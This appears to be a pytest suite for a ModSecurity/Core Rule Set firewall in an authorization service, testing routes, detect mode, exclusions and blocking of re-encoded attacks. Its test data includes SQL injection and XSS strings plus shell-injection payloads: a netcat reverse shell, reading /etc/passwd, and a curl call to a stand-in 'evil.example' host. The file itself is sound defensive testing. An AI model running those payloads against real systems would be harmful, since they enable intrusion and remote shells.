"""The WAF compiled from a Screening document: load errors, routes, modes and exclusions, and classes of attack
spellings (hypothesis) that the Core Rule Set at paranoia level 1 must block however they are written."""

from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.screening_inline import BROWSER, HEAD, loaded, screener_for
from support.waf_corpus import KNOWN_FALSE_POSITIVES

from extauth.config import ConfigError
from extauth.request import Request
from extauth.screening import waf as waf_module
from extauth.screening.compiler import compile_screening
from extauth.screening.waf import WafEngine, WafVerdict
from extauth.tools.synthetic import check_request

CRS_ROUTES = HEAD + """metadata: {name: waf}
waf:
  routes:
    - {name: bodies, path_prefix: /public/, inspect_body: {max_bytes: 64}}
    - {name: uploads, path_prefix: /public/uploads/, enabled: false}
    - {name: legacy, path_prefix: /legacy/, mode: detect, exclusions: {rule_ids: [942100]}}
"""


@pytest.fixture(scope="module")
def waf() -> WafEngine:
    engine = screener_for(CRS_ROUTES).waf
    assert engine is not None
    return engine


def inspect(engine: WafEngine, path: str, method: str = "GET", headers: dict[str, str] | None = None,
            body: bytes = b"") -> WafVerdict | None:
    check = check_request(path, method, headers=headers)
    if body:
        check.attributes.request.http.raw_body = body
        check.attributes.request.http.headers["content-length"] = str(len(body))
    return engine.inspect(Request(check))


def errors(text: str) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        screener_for(text)
    return [str(issue) for issue in caught.value.issues]


def test_without_a_waf_section_there_is_no_waf() -> None:
    """WAF off is the default: no engine is compiled, so a Check never calls into ModSecurity."""
    assert compile_screening(()).waf is None
    assert screener_for(HEAD + "metadata: {name: a}\nmethods: [GET]\n").waf is None


def test_the_core_rule_set_loads_without_geoip_and_response_rules(waf: WafEngine) -> None:
    """Debian's CRS 3.3.4 loads (hundreds of rules); REQUEST-910 (GeoIP) and the RESPONSE-* files are left out."""
    assert waf.rule_count > 500
    names = [path.name for path in waf_module._crs_files("/usr/share/modsecurity-crs")]
    assert "REQUEST-942-APPLICATION-ATTACK-SQLI.conf" in names
    assert not any(name.startswith(("REQUEST-910-", "RESPONSE-")) for name in names)


def test_a_browser_request_with_a_token_matches_nothing(waf: WafEngine) -> None:
    """The everyday request (cookies, JWT, Referer with a query) gives no verdict at all."""
    assert inspect(waf, "/api/orders?page=2&q=caf%C3%A9", headers=BROWSER) is None


@pytest.mark.parametrize("method", ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
@pytest.mark.parametrize("protocol", ["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/3"])
def test_every_method_screening_admits_over_every_http_version_envoy_speaks_matches_nothing(
        waf: WafEngine, method: str, protocol: str) -> None:
    """CRS's own method and version allowlists would refuse PUT, PATCH, DELETE and HTTP/3: the WAF admits them."""
    check = check_request("/api/orders/1", method, headers={"content-length": "0"} if method != "GET" else None)
    check.attributes.request.http.protocol = protocol
    assert waf.inspect(Request(check)) is None


def test_an_attack_is_blocked_with_rule_ids_and_score_but_never_the_matched_data(waf: WafEngine) -> None:
    """The verdict carries rule ids, messages and the anomaly score; the payload is nowhere in the audit object."""
    verdict = inspect(waf, "/api/x?id=" + quote("1' OR 1=1--"))
    assert verdict is not None and verdict.blocks
    audit = verdict.audit()
    assert audit["rule_ids"] == [942100] and audit["anomaly_score"] == 5 and audit["mode"] == "block"
    assert "OR 1=1" not in repr(audit)


def test_bodies_are_inspected_only_on_routes_that_ask_and_only_up_to_their_limit(waf: WafEngine) -> None:
    """/public/ reads 64 bytes of the body; /api/ reads none; an attack after byte 64 is not seen."""
    attack = b'{"name": "x\' OR 1=1--"}'
    json_headers = {"content-type": "application/json"}
    assert inspect(waf, "/public/a", "POST", json_headers, attack).blocks
    assert inspect(waf, "/api/a", "POST", json_headers, attack) is None
    late = b'{"pad": "' + b"a" * 80 + b'", "name": "x\' OR 1=1--"}'
    assert inspect(waf, "/public/a", "POST", json_headers, late) is None


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content_type=st.one_of(
    st.none(),
    st.sampled_from(["application/json", "text/plain", "application/octet-stream", "application/vnd.api+json",
                     "application/problem+json", "text/json"]).flatmap(
        lambda base: st.tuples(st.just(base), st.sampled_from(["", "; charset=utf-8", ";charset=UTF-8"]),
                               st.booleans()).map(lambda t: (t[0].upper() if t[2] else t[0]) + t[1]))))
def test_a_json_attack_is_blocked_whatever_content_type_it_declares_or_none(waf: WafEngine,
                                                                            content_type: str | None) -> None:
    """A JSON body's attack cannot hide behind another, oddly spelled or missing Content-Type: a body without one
    is parsed as JSON, and a type CRS does not allow scores on its own."""
    headers = {} if content_type is None else {"content-type": content_type}
    verdict = inspect(waf, "/public/a", "POST", headers, b'{"n": "x\' OR 1=1--"}')
    assert verdict is not None and verdict.blocks, content_type


def test_the_longest_route_prefix_wins_and_a_disabled_route_is_not_inspected(waf: WafEngine) -> None:
    """/public/uploads/ is switched off although /public/ is on."""
    assert inspect(waf, "/public/uploads/x?id=" + quote("1' OR 1=1--")) is None
    assert inspect(waf, "/public/x?id=" + quote("1' OR 1=1--")).blocks


def test_detect_mode_and_route_exclusions_apply_per_route(waf: WafEngine) -> None:
    """On /legacy/ 942100 is excluded (another SQLi rule still scores) and a verdict never blocks."""
    verdict = inspect(waf, "/legacy/x?q=" + quote("1 UNION SELECT password FROM users"))
    assert verdict is not None and not verdict.blocks and verdict.mode == "detect"
    assert 942100 not in verdict.audit()["rule_ids"] and verdict.audit()["rule_ids"]


@pytest.mark.parametrize(("rule_id", "text"), KNOWN_FALSE_POSITIVES.items())
def test_the_known_false_positives_are_flagged_and_a_route_exclusion_by_rule_id_clears_them(
        rule_id: int, text: str) -> None:
    """The two benign phrases CRS PL1 flags (kept out of the benign corpus) are cleared by the documented tuning:
    the rule id excluded for the one route that receives such text (docs/waf.md)."""
    path = "/search?q=" + quote(text)
    plain = screener_for(HEAD + "metadata: {name: waf}\nwaf: {}\n").waf
    assert plain is not None and rule_id in inspect(plain, path).audit()["rule_ids"]
    by_id = screener_for(HEAD + "metadata: {name: waf}\nwaf:\n  routes:\n"
                         f"    - {{name: search, path_prefix: /search, exclusions: {{rule_ids: [{rule_id}]}}}}\n").waf
    assert inspect(by_id, path) is None or not inspect(by_id, path).over_threshold


def test_an_exclusion_by_tag_removes_the_whole_group_for_its_route_only() -> None:
    """`tags: [attack-xss]` on /cms/ lets markup through there; the same request elsewhere is still blocked."""
    engine = screener_for(HEAD + "metadata: {name: waf}\nwaf:\n  routes:\n"
                          "    - {name: cms, path_prefix: /cms/, exclusions: {tags: [attack-xss]}}\n").waf
    markup = "?html=" + quote("<script>alert(1)</script>")
    assert inspect(engine, "/cms/page" + markup) is None
    assert inspect(engine, "/api/page" + markup).blocks


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(spelling=st.tuples(*(st.sampled_from([c.lower(), c.upper()]) for c in "legacy")).map("".join))
def test_a_route_override_applies_to_every_case_of_its_prefix(waf: WafEngine, spelling: str) -> None:
    """Policy routes match case-insensitively, so a WAF override does too: `/LeGaCy/` gets /legacy/'s settings."""
    verdict = inspect(waf, f"/{spelling}/x?q=" + quote("1 UNION SELECT password FROM users"))
    assert verdict is not None and verdict.route == "legacy" and verdict.mode == "detect"


#: Spellings of the same attack: case, `+` or `%20` or a comment for spaces, percent-encoding of any character.
def _spelled(payload: str) -> st.SearchStrategy[str]:
    def one(char: str) -> st.SearchStrategy[str]:
        options = [st.just(char.lower()), st.just(char.upper())] if char.isalpha() else [st.just(char)]
        if char == " ":
            options += [st.just("+"), st.just("%20"), st.just("++")]
        elif not char.isalnum():
            options.append(st.just(quote(char, safe="")))
        return st.one_of(options)
    return st.tuples(*(one(char) for char in payload)).map("".join)


SQLI = st.sampled_from(["1' or 1=1-- ", "x' union select password from users-- ", "1; drop table users-- "])
XSS = st.sampled_from(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"])
RCE = st.sampled_from(["; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x)"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=st.one_of(SQLI, XSS, RCE).flatmap(_spelled), name=st.sampled_from(["q", "id", "filter", "next"]))
def test_every_spelling_of_an_attack_in_the_query_is_blocked(waf: WafEngine, payload: str, name: str) -> None:
    """Case, space encodings and percent-encoding of any character do not take an attack under the threshold."""
    verdict = inspect(waf, f"/api/x?{name}={payload}")
    assert verdict is not None and verdict.blocks, payload


def test_a_policy_asking_for_the_waf_without_the_extra_is_a_load_error_naming_the_fix(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the libmodsecurity binding the policy does not load; the error says which extra to install."""
    def missing() -> None:
        raise ImportError("No module named 'libmodsecurity'")
    monkeypatch.setattr(waf_module, "_library", missing)
    assert errors(HEAD + "metadata: {name: waf}\nwaf:\n  engine: modsecurity\n") == [
        f"a.yaml:5: waf.engine: {waf_module.MISSING_EXTRA}"]


def test_schema_mistakes_are_errors_with_file_line_and_field() -> None:
    """Paranoia level, rule files and duplicate route prefixes are checked at load with their line."""
    found = errors(HEAD + "metadata: {name: waf}\nwaf:\n  paranoia_level: 5\n  rules: [crs, ../x.conf]\n"
                   "  routes:\n    - {name: a, path_prefix: /a}\n    - {name: b, path_prefix: /a}\n")
    assert any(line.startswith("a.yaml:5: waf.paranoia_level") for line in found), found
    assert any(line.startswith("a.yaml:6: waf.rules") for line in found), found


def test_a_missing_rule_file_and_a_waf_set_twice_are_load_errors(tmp_path: Path) -> None:
    """A `rules` entry naming no file, and a second document setting `waf`, are both reported."""
    text = HEAD + "metadata: {name: waf}\nwaf:\n  rules: [crs, mine.conf]\n"
    with pytest.raises(ConfigError) as caught:
        compile_screening(loaded(text, tmp_path / "waf.yaml"))
    assert [str(issue) for issue in caught.value.issues] == [
        f"{tmp_path / 'waf.yaml'}:5: waf.rules[1]: {tmp_path / 'mine.conf'}: no such file"]
    assert errors(HEAD + "metadata: {name: a}\nwaf: {}\n---\n" + HEAD + "metadata: {name: b}\nwaf: {}\n") == [
        "a.yaml:9: waf: already set in a.yaml:4; only one Screening document may set waf"]
